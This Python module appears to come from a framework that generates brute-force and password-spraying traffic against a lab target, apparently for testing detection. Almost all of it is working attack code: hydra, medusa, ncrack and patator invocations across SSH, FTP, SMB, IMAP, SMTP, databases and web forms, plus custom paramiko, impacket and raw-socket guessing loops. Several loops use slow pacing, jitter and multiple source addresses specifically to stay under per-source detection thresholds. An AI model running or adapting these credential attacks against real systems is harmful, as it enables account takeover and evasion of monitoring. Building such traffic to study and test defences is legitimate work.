"""Password guessing and spraying: hydra, medusa, ncrack, patator, programs in a loop, our own paramiko client."""

import logging
import socket

from attacks.way import Way

PASSWORDS = ["123456", "password", "qwerty", "letmein", "admin", "root", "toor", "dragon", "monkey", "secret",
             "changeme", "welcome", "test", "guest", "master", "hello", "summer", "winter", "pass1", "abc123"]
USERS = ["root", "admin", "test", "user", "oracle", "postgres", "ubuntu", "pi", "guest", "backup", "alice", "bob"]


def words(act):
    """Files of users and passwords: one user and many passwords, or many users and few (spraying)."""
    rng = act.rng
    kind = act.pick("shape", ["one user", "one user", "few users", "spraying"])
    users = {"one user": 1, "few users": 4, "spraying": len(USERS)}[kind]
    count = 2 if kind == "spraying" else rng.choice([10, 400, 400])
    found = ["correct-horse"] if rng.random() < 0.15 else []
    passwords = [f"{rng.choice(PASSWORDS)}{rng.randrange(1000)}" for _ in range(count)] + found
    return act.scratch_lines(rng.sample(USERS, users)), act.scratch_lines(passwords)


def hydra(service, port, extra=""):
    def attack(act):
        users, passwords = words(act)
        server = act.server(port)
        pace = act.pick("pace", [[], [], ["-c", "2"], ["-W", "1"], ["-c", "5"]])
        tasks = act.pick("tasks", [1, 2, 4, 8, 16]) if pace[:1] != ["-c"] else 1
        who = ["-P", passwords] if service in ("redis", "snmp") else ["-L", users, "-P", passwords]
        act.run(["hydra", "-I", "-q", *who, "-t", tasks, *pace, "-s", server.port[port], server.v4, service,
                 *([extra] if extra else [])])

    return attack


def medusa(module, port, *more):
    def attack(act):
        users, passwords = words(act)
        server = act.server(port)
        act.run(["medusa", "-h", server.v4, "-n", server.port[port], "-U", users, "-P", passwords, "-t",
                 act.pick("tasks", [1, 2, 6]), "-M", module, *more, *act.pick("pace", [[], ["-r", "2"]])])

    return attack


def ncrack(service, port):
    def attack(act):
        users, passwords = words(act)
        server = act.server(port)
        act.run(["ncrack", act.pick("timing", ["-T1", "-T2", "-T3", "-T4"]), "-U", users, "-P", passwords,
                 f"{service}://{server.v4}:{server.port[port]}"])

    return attack


def patator(module, port, *more):
    def attack(act):
        users, passwords = words(act)
        server = act.server(port)
        fields = {"http_fuzz": [f"url=http://{server.v4}:{server.port[port]}/admin/", "user_pass=FILE0:FILE1",
                                f"resolve=lab.test:{server.v4}"],
                  "telnet_login": [f"host={server.v4}", f"port={server.port[port]}", "inputs=FILE0\\nFILE1",
                                   "prompt_re=login:|Password:"],
                  "smtp_login": [f"host={server.v4}", "user=FILE0", "password=FILE1"],
                  }.get(module, [f"host={server.v4}", f"port={server.port[port]}", "user=FILE0", "password=FILE1"])
        act.run(["patator", module, *fields, f"0={users}", f"1={passwords}", "-t", act.pick("tasks", [1, 4, 10]),
                 f"--rate-limit={act.pick('pause_s', [0, 0, 0.5])}", *more],
                stdin=True)  # an input that ends would make it report without end

    return attack


def program(name):
    """An honest program in a loop, as a script does it."""
    def attack(act):
        server = act.server("smb")
        period = act.draw("period_s", 0.05, 3.0)
        for number in act.every(period, act.pick("jitter", [0, 0.5])):
            user, password = act.rng.choice(USERS), f"{act.rng.choice(PASSWORDS)}{number}"
            act.run({
                "smbclient": ["smbclient", f"//{server.v4}/files", password, "-U", user, "-c", "ls"],
                "curl": ["curl", "-s", "-o", "/dev/null", "-u", f"{user}:{password}", act.rng.choice([
                    f"imap://{server.v4}/", f"pop3://{server.v4}/", f"ftp://{server.v4}/"])],
                "psql": ["env", f"PGPASSWORD={password}", "psql", "-h", server.v4, "-U", user, "-d", "postgres", "-c", "SELECT 1"],
                "mariadb": ["mariadb", "-h", server.v4, "-u", user, f"-p{password}", "--skip-ssl", "-e", "SELECT 1"],
            }[name], 6)

    return attack


def impacket(act):
    """SMB logins by a Windows administrator's library."""
    from impacket.smbconnection import SMBConnection

    server = act.server("smb")
    for number in act.every(act.draw("period_s", 0.05, 2.0), act.pick("jitter", [0, 0.5])):
        try:
            client = SMBConnection(server.v4, server.v4, timeout=4)
            client.login(act.rng.choice(USERS), f"{act.rng.choice(PASSWORDS)}{number}")
        except Exception:  # whatever the library calls a refusal
            pass
        finally:
            try:
                client.close()
            except Exception:
                pass


def paramiko(act):
    """Slow, or from many addresses, or both: what keeps below a counter for each source."""
    import paramiko as library

    logging.getLogger("paramiko").setLevel(logging.CRITICAL)
    server = act.server("ssh")
    homes = [act.host.v4, *act.host.more]
    act.note(evasion="many addresses" if len(homes) > 1 else "")
    for number in act.every(act.draw("period_s", 0.2, 5.0), act.pick("jitter", [0, 0.5, 0.9])):
        client = library.SSHClient()
        client.set_missing_host_key_policy(library.AutoAddPolicy())
        try:
            with act.tcp(server.v4, server.port["ssh"], 5, (act.rng.choice(homes), 0)) as wire:
                client.connect(server.v4, username=act.rng.choice(USERS), password=f"{act.rng.choice(PASSWORDS)}{number}",
                               sock=wire, timeout=5, allow_agent=False, look_for_keys=False)
        except (library.SSHException, OSError, EOFError):
            pass
        finally:
            client.close()


def own_forms(act):
    """Guesses at a web form, one connection each or one for all, users in turn."""
    server = act.server("http")
    kept, client = act.rng.random() < 0.5, None
    act.note(connections="one" if kept else "many")
    for number in act.every(act.draw("period_s", 0.02, 2.0), act.pick("jitter", [0, 0.3])):
        if client is None:
            client = act.tcp(server.v4, server.port["http"])
        body = f"user={act.rng.choice(USERS)}&pass={act.rng.choice(PASSWORDS)}{number}"
        try:
            client.sendall(f"POST /form HTTP/1.1\r\nHost: lab.test\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                           f"Content-Length: {len(body)}\r\n\r\n{body}".encode())
            alive = client.recv(8192)
        except OSError:
            alive = b""
        if not kept or not alive:
            client.close()
            client = None


def own_spray(act):
    """A few passwords over every server and mailbox, from several hosts."""
    act.note(evasion="distributed")
    server = act.server("imap")
    for user in act.deal(USERS * 20):
        try:
            with act.tcp(server.v4, 143, 4) as client:
                client.recv(1024)
                client.sendall(f"a login {user} {act.rng.choice(PASSWORDS)}2024\r\n".encode())
                client.settimeout(4)
                client.recv(1024)
        except (TimeoutError, socket.timeout, ConnectionError):
            pass
        if not act.pause(act.rng.uniform(0.1, 1.5)):
            return


F, LONG = "brute_force", (10, 28)
FORM = "/form:user=^USER^&pass=^PASS^:F=failed"
CASES = [
    *[("hydra", service, hydra(service, port, extra)) for service, port, extra in [
        ("ssh", "ssh", ""), ("ftp", "ftp", ""), ("http-get", "http", "/admin/"), ("http-post-form", "http", FORM),
        ("smtp", "smtp", ""), ("imap", "imap", ""), ("pop3", "pop3", ""), ("telnet", "telnet", ""), ("mysql", "mysql", ""),
        ("postgres", "postgres", ""), ("redis", "redis", "")]],
    *[("medusa", module, medusa(module, port, *more)) for module, port, *more in [
        ("ssh", "ssh"), ("ftp", "ftp"), ("http", "http", "-m", "DIR:/admin/"), ("imap", "imap"), ("pop3", "pop3"),
        ("mysql", "mysql"), ("smbnt", "smb"), ("smtp", "smtp", "-m", "AUTH:LOGIN"), ("telnet", "telnet")]],
    *[("ncrack", service, ncrack(service, port)) for service, port in [
        ("ssh", "ssh"), ("ftp", "ftp"), ("smb2", "smb"), ("pop3", "pop3"), ("telnet", "telnet"), ("mysql", "mysql"),
        ("psql", "postgres"), ("redis", "redis"), ("imap", "imap")]],
    *[("patator", module, patator(module, port)) for module, port in [
        ("ssh_login", "ssh"), ("ftp_login", "ftp"), ("http_fuzz", "http"), ("smtp_login", "smtp"), ("imap_login", "imap"),
        ("pop_login", "pop3"), ("telnet_login", "telnet")]],
    *[(name, "loop", program(name)) for name in ("smbclient", "curl", "psql", "mariadb")],
    ("impacket", "smb", impacket), ("paramiko", "ssh", paramiko), ("paramiko", "ssh", paramiko), ("ours", "form", own_forms),
]
WAYS = [Way(F, tool, name, act, seconds=LONG) for tool, name, act in CASES]
WAYS += [Way(F, "ours", "spray", own_spray, by="many", seconds=LONG),
         Way(F, "paramiko", "ssh", paramiko, by="client", seconds=LONG)]
TOOLS = {"hydra": "hydra", "medusa": "medusa", "ncrack": "ncrack", "patator": "patator", "smbclient": "smbclient", "curl": "curl",
         "psql": "postgresql", "mariadb": "mariadb-client", "impacket": "python3-impacket", "paramiko": "python3-paramiko",
         "ours": "ours"}
